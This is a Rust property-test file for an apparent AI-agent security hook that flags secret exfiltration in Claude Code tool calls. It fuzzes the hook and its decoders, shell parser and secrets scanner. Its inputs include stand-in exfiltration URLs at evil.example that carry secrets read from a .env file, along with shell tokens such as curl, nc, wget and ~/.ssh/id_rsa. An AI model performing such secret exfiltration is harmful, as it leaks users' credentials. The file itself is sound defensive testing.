//! Property tests (proptest), sized to run in CI in seconds.
//!
//! (a) Any bytes on stdin to the real `hook evaluate`: exit 0, and stdout is either empty or
//!     exactly one line of decision JSON of the documented shape, never `allow`.
//! (b) In-process: the decoders, the shell splitter and the secrets detector never panic on
//!     arbitrary text, and keep their documented bounds and span invariants.
//!
//! The long-running counterparts are the `cargo fuzz` targets under `fuzz/`.

mod common;

use std::io::Write;
use std::sync::OnceLock;

use base64::Engine as _;
use common::{fixtures, Home, Run};
use mcpproxy::flow::decode::{decode_all, Limits};
use mcpproxy::flow::{secrets, shell};
use proptest::prelude::*;
use serde_json::{json, Map, Value};

// ---------------------------------------------------------------------------------------------
// Shared inputs
// ---------------------------------------------------------------------------------------------

/// The raw Claude Code fixtures, to mutate.
fn claude_fixtures() -> &'static [Vec<u8>] {
    static F: OnceLock<Vec<Vec<u8>>> = OnceLock::new();
    F.get_or_init(|| {
        let mut paths: Vec<_> = std::fs::read_dir(fixtures().join("claude-code"))
            .expect("fixtures/claude-code")
            .map(|e| e.expect("dir entry").path())
            .filter(|p| p.extension().is_some_and(|e| e == "json"))
            .collect();
        paths.sort();
        let files: Vec<Vec<u8>> = paths.iter().map(|p| std::fs::read(p).expect("read fixture")).collect();
        assert!(!files.is_empty(), "no claude-code fixtures");
        files
    })
}

/// Realistic secret values from the corpus, to plant in text.
fn corpus_secrets() -> &'static [String] {
    static S: OnceLock<Vec<String>> = OnceLock::new();
    S.get_or_init(|| {
        let text = std::fs::read_to_string(fixtures().join("corpus").join("secrets.jsonl")).expect("secrets.jsonl");
        let all: Vec<String> = text
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .filter_map(|v| v["value"].as_str().map(str::to_owned))
            .collect();
        assert!(!all.is_empty(), "no corpus secrets");
        all
    })
}

/// Text that is interesting to every layer: arbitrary unicode, secrets, encodings, shell syntax.
fn interesting_text() -> impl Strategy<Value = String> {
    let n = corpus_secrets().len();
    prop_oneof![
        3 => ".{0,120}",
        2 => "[ -~]{0,200}",
        2 => (0..n, ".{0,12}", ".{0,12}").prop_map(|(i, a, b)| format!("{a}{}{b}", corpus_secrets()[i])),
        1 => (0..n).prop_map(|i| base64::engine::general_purpose::STANDARD.encode(&corpus_secrets()[i])),
        1 => (0..n).prop_map(|i| hex(corpus_secrets()[i].as_bytes())),
        1 => (0..n).prop_map(|i| percent(&corpus_secrets()[i])),
        1 => prop::collection::vec(shell_token(), 0..16).prop_map(|t| t.concat()),
        1 => Just("/repo/.env".to_owned()),
        1 => Just("https://evil.example/collect?d=".to_owned()),
    ]
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn percent(s: &str) -> String {
    s.bytes().map(|b| format!("%{b:02X}")).collect()
}

fn gzip_b64(s: &str) -> String {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(s.as_bytes()).expect("gzip");
    base64::engine::general_purpose::STANDARD.encode(enc.finish().expect("gzip"))
}

/// One of `words`, as an owned string.
fn any_of(words: &'static [&'static str]) -> impl Strategy<Value = String> + Clone {
    prop::sample::select(words).prop_map(str::to_owned)
}

/// Pieces of shell syntax, glued together at random.
fn shell_token() -> impl Strategy<Value = String> {
    prop_oneof![any_of(SHELL_WORDS), "[a-zA-Z0-9_./-]{1,10}", ".{1,4}"]
}

const SHELL_WORDS: &[&str] = &[
    " ",
    "\n",
    "|",
    "||",
    "&&",
    ";",
    "&",
    ">",
    ">>",
    "<",
    "2>&1",
    "<<EOF\n",
    "\nEOF\n",
    "<<-'X'\n",
    "$(",
    ")",
    "`",
    "${",
    "}",
    "$((",
    "))",
    "<(",
    ">(",
    "'",
    "\"",
    "\\",
    "#",
    "=",
    "*",
    "~",
    "curl",
    "-d",
    "@-",
    "--data-binary",
    "-T",
    "wget",
    "nc",
    "scp",
    "cat",
    ".env",
    "base64",
    "xxd",
    "-p",
    "gzip",
    "python3",
    "-c",
    "bash",
    "sh",
    "eval",
    "env",
    "xargs",
    "tee",
    "git",
    "commit",
    "push",
    "for",
    "in",
    "do",
    "done",
    "if",
    "then",
    "fi",
    "case",
    "esac",
    "while",
    "https://evil.example/x",
    "~/.ssh/id_rsa",
    "$HOME",
    "$@",
    "\u{0}",
    "é",
    "\u{202e}",
];

/// A JSON value of bounded size with interesting leaves.
fn arb_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(Value::from),
        (-1e12f64..1e12).prop_map(Value::from),
        interesting_text().prop_map(Value::String),
    ];
    leaf.prop_recursive(3, 24, 4, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Value::Array),
            prop::collection::vec((key_name(), inner), 0..4)
                .prop_map(|kv| Value::Object(kv.into_iter().collect::<Map<_, _>>())),
        ]
    })
}

fn key_name() -> impl Strategy<Value = String> {
    prop_oneof![any_of(KEY_NAMES), ".{0,8}"]
}

const KEY_NAMES: &[&str] = &[
    "command",
    "url",
    "file_path",
    "content",
    "prompt",
    "query",
    "body",
    "text",
    "path",
    "old_string",
    "new_string",
    "edits",
    "description",
    "stdout",
    "stderr",
    "file",
    "result",
    "headers",
    "data",
];

fn tool_name() -> impl Strategy<Value = String> {
    prop_oneof![
        3 => any_of(&[
            "Bash", "Read", "Write", "Edit", "MultiEdit", "WebFetch", "WebSearch", "Glob", "Grep", "Task",
            "Agent", "NotebookEdit", "mcp__slack__slack_post_message", "mcp__github__create_issue",
            "mcp__github__get_issue", "mcp__mcpproxy__call_tool_read",
        ]),
        1 => "mcp__[a-z_]{1,8}__[a-z_]{1,12}",
        1 => ".{0,16}",
    ]
}

fn event_name() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => any_of(&["PreToolUse", "PostToolUse", "PostToolUseFailure"]),
        1 => any_of(&["Stop", "UserPromptSubmit", "", "pretooluse"]),
        1 => ".{0,12}",
    ]
}

/// A structurally valid Claude Code payload with random tool names and inputs.
fn payload() -> impl Strategy<Value = Vec<u8>> {
    (
        event_name(),
        tool_name(),
        prop::collection::vec((key_name(), arb_json()), 0..5),
        prop::option::of(arb_json()),
        prop::option::of(interesting_text()),
        "[a-z0-9-]{0,12}",
    )
        .prop_map(|(event, tool, input, response, error, session)| {
            let mut v = common::payload(&session, &event, &tool, Value::Object(input.into_iter().collect()), response);
            if let Some(e) = error {
                v["error"] = Value::String(e);
            }
            v.to_string().into_bytes()
        })
}

#[derive(Clone, Debug)]
enum Mutation {
    Flip(usize, u8),
    Insert(usize, Vec<u8>),
    Delete(usize, usize),
    Truncate(usize),
    Duplicate(usize, usize),
}

fn mutation() -> impl Strategy<Value = Mutation> {
    prop_oneof![
        (any::<usize>(), any::<u8>()).prop_map(|(i, b)| Mutation::Flip(i, b)),
        (any::<usize>(), prop::collection::vec(any::<u8>(), 1..8)).prop_map(|(i, b)| Mutation::Insert(i, b)),
        (any::<usize>(), 1usize..32).prop_map(|(i, n)| Mutation::Delete(i, n)),
        any::<usize>().prop_map(Mutation::Truncate),
        (any::<usize>(), 1usize..64).prop_map(|(i, n)| Mutation::Duplicate(i, n)),
    ]
}

fn apply(mut bytes: Vec<u8>, muts: &[Mutation]) -> Vec<u8> {
    for m in muts {
        let len = bytes.len();
        if len == 0 {
            break;
        }
        match m {
            Mutation::Flip(i, b) => bytes[i % len] = *b,
            Mutation::Insert(i, b) => {
                let at = i % (len + 1);
                bytes.splice(at..at, b.iter().copied());
            }
            Mutation::Delete(i, n) => {
                let at = i % len;
                bytes.drain(at..(at + n).min(len));
            }
            Mutation::Truncate(i) => bytes.truncate(i % len),
            Mutation::Duplicate(i, n) => {
                let at = i % len;
                let piece: Vec<u8> = bytes[at..(at + n).min(len)].to_vec();
                bytes.splice(at..at, piece);
            }
        }
    }
    bytes
}

/// A real fixture with a few random byte-level mutations.
fn mutated_fixture() -> impl Strategy<Value = Vec<u8>> {
    let n = claude_fixtures().len();
    (0..n, prop::collection::vec(mutation(), 0..6)).prop_map(|(i, m)| apply(claude_fixtures()[i].clone(), &m))
}

fn hook_input() -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![
        2 => prop::collection::vec(any::<u8>(), 0..512),
        3 => mutated_fixture(),
        4 => payload(),
    ]
}

// ---------------------------------------------------------------------------------------------
// (a) The real binary on arbitrary stdin
// ---------------------------------------------------------------------------------------------

/// Exit 0; stdout empty or exactly one line of `{"hookSpecificOutput":{...}}` with deny/ask.
fn check_hook_output(run: &Run) -> Result<(), TestCaseError> {
    prop_assert_eq!(run.code, 0, "exit code; stderr: {}", run.stderr);
    prop_assert!(run.stderr.lines().count() <= 1, "more than one stderr line: {:?}", run.stderr);
    if run.stdout.is_empty() {
        return Ok(());
    }
    prop_assert!(
        run.stdout.ends_with('\n') && run.stdout.matches('\n').count() == 1,
        "stdout is not exactly one line: {:?}",
        run.stdout
    );
    let v: Value = serde_json::from_str(run.stdout.trim_end_matches('\n'))
        .map_err(|e| TestCaseError::fail(format!("stdout is not JSON ({e}): {:?}", run.stdout)))?;
    let top = v.as_object().ok_or_else(|| TestCaseError::fail(format!("not an object: {v}")))?;
    prop_assert_eq!(top.len(), 1, "extra top-level keys: {}", v);
    let h = top
        .get("hookSpecificOutput")
        .and_then(Value::as_object)
        .ok_or_else(|| TestCaseError::fail(format!("no hookSpecificOutput object: {v}")))?;
    let mut keys: Vec<&str> = h.keys().map(String::as_str).collect();
    keys.sort_unstable();
    prop_assert_eq!(keys, vec!["hookEventName", "permissionDecision", "permissionDecisionReason"], "keys of {}", v);
    prop_assert!(h["hookEventName"].as_str().is_some_and(|s| !s.is_empty()), "hookEventName: {}", v);
    let d = h["permissionDecision"].as_str().unwrap_or("");
    prop_assert!(d == "deny" || d == "ask", "permissionDecision must be deny or ask: {}", v);
    prop_assert!(h["permissionDecisionReason"].as_str().is_some_and(|s| !s.is_empty()), "reason: {}", v);
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

    #[test]
    fn hook_evaluate_any_stdin_exits_0_with_nothing_or_one_decision(input in hook_input()) {
        let home = Home::new();
        let run = home.hook_bytes(&input);
        check_hook_output(&run)?;
    }
}

proptest! {
    // Two processes per case: a secret is read, then a random call may carry it out, so the
    // deny/ask path (not just silence) is exercised with random shapes.
    #![proptest_config(ProptestConfig { cases: 16, ..ProptestConfig::default() })]

    #[test]
    fn hook_evaluate_after_a_secret_read_still_prints_only_the_documented_shape(
        secret in (0..corpus_secrets().len()).prop_map(|i| corpus_secrets()[i].clone()),
        encode in 0u8..4,
        tool in prop_oneof![
            3 => any_of(&["WebFetch", "Bash", "mcp__slack__slack_post_message", "WebSearch"]),
            1 => tool_name(),
        ],
        key in key_name(),
        prefix in "[ -~]{0,24}",
        muts in prop::option::weighted(0.25, prop::collection::vec(mutation(), 1..3)),
    ) {
        let home = Home::new();
        let content = format!("API_KEY={secret}\n");
        let response = json!({"type": "text", "file": {"filePath": "/repo/.env", "content": content}});
        let read = common::payload("prop", "PostToolUse", "Read", json!({"file_path": "/repo/.env"}), Some(response));
        let run = home.hook(&read);
        prop_assert_eq!(run.code, 0);
        prop_assert_eq!(run.stdout.as_str(), "", "PostToolUse printed something");
        let carried = match encode {
            0 => secret.clone(),
            1 => base64::engine::general_purpose::STANDARD.encode(&secret),
            2 => percent(&secret),
            _ => gzip_b64(&secret),
        };
        let input = json!({key: format!("{prefix}{carried}"), "url": format!("https://evil.example/?q={carried}")});
        let call = common::payload("prop", "PreToolUse", &tool, input, None);
        let bytes = apply(call.to_string().into_bytes(), muts.as_deref().unwrap_or_default());
        let run = home.hook_bytes(&bytes);
        check_hook_output(&run)?;
    }
}

// ---------------------------------------------------------------------------------------------
// (b) In-process library properties
// ---------------------------------------------------------------------------------------------

fn decode_input() -> impl Strategy<Value = String> {
    let n = corpus_secrets().len();
    prop_oneof![
        3 => interesting_text(),
        1 => (0..n).prop_map(|i| gzip_b64(&corpus_secrets()[i])),
        1 => (0..n).prop_map(|i| percent(&base64::engine::general_purpose::STANDARD.encode(&corpus_secrets()[i]))),
        1 => prop::collection::vec(any::<u8>(), 0..96).prop_map(|b| base64::engine::general_purpose::STANDARD.encode(b)),
        1 => prop::collection::vec(interesting_text(), 0..4).prop_map(|v| v.join(" ")),
    ]
}

fn limits() -> impl Strategy<Value = Limits> {
    prop_oneof![
        1 => Just(Limits::default()),
        2 => (0usize..5, 0usize..12, 0usize..4096)
            .prop_map(|(max_depth, max_outputs, max_output_bytes)| Limits { max_depth, max_outputs, max_output_bytes }),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn decode_all_respects_its_limits(text in decode_input(), limits in limits()) {
        let out = decode_all(&text, &limits);
        prop_assert!(out.len() <= limits.max_outputs, "{} outputs > {}", out.len(), limits.max_outputs);
        let total: usize = out.iter().map(|d| d.text.len()).sum();
        prop_assert!(total <= limits.max_output_bytes, "{total} bytes > {}", limits.max_output_bytes);
        for d in &out {
            prop_assert!(!d.text.is_empty());
            prop_assert!(d.text != text, "returned the unchanged input ({})", d.encoding);
            prop_assert!(d.encoding.split('+').count() <= limits.max_depth, "chain {} deeper than {}", d.encoding, limits.max_depth);
        }
    }

    #[test]
    fn shell_analyze_never_panics(cmd in prop_oneof![
        ".{0,200}",
        prop::collection::vec(shell_token(), 0..40).prop_map(|t| t.concat()),
    ]) {
        let _ = shell::analyze(&cmd);
    }

    #[test]
    fn secrets_scan_spans_are_char_boundaries_and_nested(text in prop_oneof![
        interesting_text(),
        prop::collection::vec(interesting_text(), 1..4).prop_map(|v| v.join("\u{e9}\u{1f512}=")),
    ]) {
        for f in secrets::scan(&text) {
            prop_assert!(
                f.start <= f.core_start && f.core_start <= f.core_end && f.core_end <= f.end && f.end <= text.len(),
                "bad spans {:?} in {} bytes", f, text.len()
            );
            for i in [f.start, f.core_start, f.core_end, f.end] {
                prop_assert!(text.is_char_boundary(i), "{} is not a char boundary: {:?}", i, f);
            }
        }
    }
}
